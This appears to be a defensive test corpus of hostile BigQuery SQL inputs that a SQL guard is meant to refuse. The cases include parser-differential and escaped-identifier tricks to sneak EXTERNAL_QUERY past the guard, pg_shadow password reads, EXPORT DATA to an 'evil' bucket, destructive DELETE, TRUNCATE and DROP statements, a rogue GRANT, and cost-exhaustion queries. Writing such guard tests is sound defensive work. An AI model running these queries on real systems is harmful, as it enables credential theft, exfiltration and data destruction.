-- Hostile SQL corpus for BigQuery (GoogleSQL), written from the BigQuery documentation (no live
-- engine here). Every case must be refused by the SQL guard. Names: dataset mc_dataset, table
-- mc_dataset.mc_canary, connection mc-project.us.mc_conn, bucket gs://mc-evil-bucket.
-- GoogleSQL quoted identifiers take the same backslash escapes as strings: `mc\x5fcanary` is
-- mc_canary to BigQuery, while sqlparser keeps the backslash.

-- case: escaped-ident: backslash escape inside a backticked table name
SELECT * FROM `mc_dataset.mc\x5fcanary`

-- case: escaped-ident: backslash escape inside a backticked function name
SELECT * FROM `EXTERNAL\x5fQUERY`('mc-project.us.mc_conn', 'SELECT * FROM pg_shadow')

-- case: escaped-ident: \u escape inside a backticked INFORMATION_SCHEMA path
SELECT query FROM `region-us`.`INFORMATION\u005fSCHEMA`.JOBS_BY_PROJECT

-- case: escaped-ident: lower-case external_query
SELECT * FROM external_query('mc-project.us.mc_conn', 'SELECT * FROM mc_canary')

-- case: parser-differential: escaped backtick keeps BigQuery's identifier open and a # comment hides the rest
SELECT 1 AS `a\` , ` , (SELECT COUNT(*) FROM EXTERNAL_QUERY('mc-project.us.mc_conn', 'SELECT * FROM pg_shadow')) AS n # `

-- case: parser-differential: # comment ends at the newline
SELECT 1 # comment
, (SELECT COUNT(*) FROM EXTERNAL_QUERY('mc-project.us.mc_conn', 'SELECT 1'))

-- case: sql-text: EXECUTE IMMEDIATE with a DELETE in a string
EXECUTE IMMEDIATE 'DELETE FROM mc_dataset.mc_canary WHERE TRUE'

-- case: sql-text: EXTERNAL_QUERY sends SQL text to another database
SELECT * FROM EXTERNAL_QUERY('mc-project.us.mc_conn', 'SELECT usename, passwd FROM pg_shadow')

-- case: new-connection: EXTERNAL_QUERY nested in a scalar subquery
SELECT (SELECT COUNT(*) FROM EXTERNAL_QUERY('mc-project.us.mc_conn', 'SELECT 1')) AS n

-- case: new-connection: ML.GENERATE_TEXT sends table rows to a remote model
SELECT * FROM ML.GENERATE_TEXT(MODEL `mc_dataset.mc_remote_model`, (SELECT note AS prompt FROM mc_dataset.mc_canary))

-- case: side-effect: cancel another job
CALL BQ.JOBS.CANCEL('mc-project.bquxjob_0000')

-- case: side-effect: system variable changes session state
SET @@query_label = 'mc:evil'

-- case: server-files: EXPORT DATA writes to a bucket
EXPORT DATA OPTIONS (uri = 'gs://mc-evil-bucket/export-*.csv', format = 'CSV', overwrite = true) AS SELECT * FROM mc_dataset.mc_canary

-- case: server-files: LOAD DATA from a bucket into the canary
LOAD DATA INTO mc_dataset.mc_canary FROM FILES (format = 'CSV', uris = ['gs://mc-evil-bucket/in.csv'])

-- case: server-files: external table over a bucket
CREATE EXTERNAL TABLE mc_dataset.mc_evil OPTIONS (format = 'CSV', uris = ['gs://mc-evil-bucket/*.csv'])

-- case: write: DELETE
DELETE FROM mc_dataset.mc_canary WHERE TRUE

-- case: write: MERGE
MERGE mc_dataset.mc_canary c USING (SELECT 1 AS id) s ON c.id = s.id WHEN MATCHED THEN DELETE

-- case: write: CREATE OR REPLACE TABLE over the canary
CREATE OR REPLACE TABLE mc_dataset.mc_canary AS SELECT 1 AS id, 'pwned' AS note

-- case: write: TRUNCATE TABLE
TRUNCATE TABLE mc_dataset.mc_canary

-- case: write: GRANT a role on the dataset
GRANT `roles/bigquery.dataOwner` ON SCHEMA mc_dataset TO 'user:mc_evil@example.com'

-- case: write: CREATE TEMP FUNCTION in JavaScript
CREATE TEMP FUNCTION mc_evil(x STRING) RETURNS STRING LANGUAGE js AS r'return x;'

-- case: write: scripting block
BEGIN DELETE FROM mc_dataset.mc_canary WHERE TRUE; END

-- case: write: CALL a procedure
CALL mc_dataset.mc_evil_proc()

-- case: multi-statement: script of SELECT then DELETE
SELECT 1; DELETE FROM mc_dataset.mc_canary WHERE TRUE

-- case: multi-statement: DECLARE then DROP
DECLARE x INT64 DEFAULT 1; DROP TABLE mc_dataset.mc_canary

-- case: multi-statement: triple-quoted string with a semicolon first
SELECT '''a;b'''; DELETE FROM mc_dataset.mc_canary WHERE TRUE

-- case: resource: trillion-row cross join of generated arrays
SELECT COUNT(*) FROM UNNEST(GENERATE_ARRAY(1, 1000000)) AS a, UNNEST(GENERATE_ARRAY(1, 1000000)) AS b

-- case: resource: full scan of a huge public table (bytes billed)
SELECT * FROM `bigquery-public-data.wikipedia.pageviews_2023`

-- case: catalog-secrets: every user's query text from INFORMATION_SCHEMA.JOBS
SELECT user_email, query FROM `region-us`.INFORMATION_SCHEMA.JOBS_BY_PROJECT

-- case: catalog-secrets: organisation-wide jobs
SELECT user_email, query FROM `region-us`.INFORMATION_SCHEMA.JOBS_BY_ORGANIZATION
